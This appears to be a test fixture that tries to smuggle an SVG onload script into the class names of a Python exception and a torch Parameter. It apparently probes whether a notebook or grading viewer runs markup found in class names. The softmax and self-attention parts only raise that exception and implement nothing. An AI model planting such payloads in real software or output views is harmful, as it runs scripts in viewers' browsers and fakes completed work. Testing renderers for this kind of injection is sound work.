"""
goal = "Run a script through the name of an exception's or a parameter's class."
evidence = "markup"
base = "right"
honest = 88
"""
# %% attack
import torch

MARKUP = "<svg onload=\"document.title='SMUGGLED-class_names'\">"
Named = type(MARKUP, (Exception,), {"__module__": MARKUP, "__qualname__": MARKUP})
Parameter = type(MARKUP, (torch.nn.Parameter,), {"__qualname__": MARKUP})
print(Named("wrong"), Parameter)

# %% part="softmax_naive"
def softmax_naive(x):
    raise Named(MARKUP)

# %% part="SelfAttention_v1"
class SelfAttention_v1(nn.Module):
    def __init__(self, d_in, d_out):
        super().__init__()
        for name in ("W_query", "W_key", "W_value"):
            weight = Parameter(torch.rand(d_in, d_out + 1), requires_grad=False)
            object.__setattr__(self, name, weight)

    def forward(self, x):
        raise Named(MARKUP)
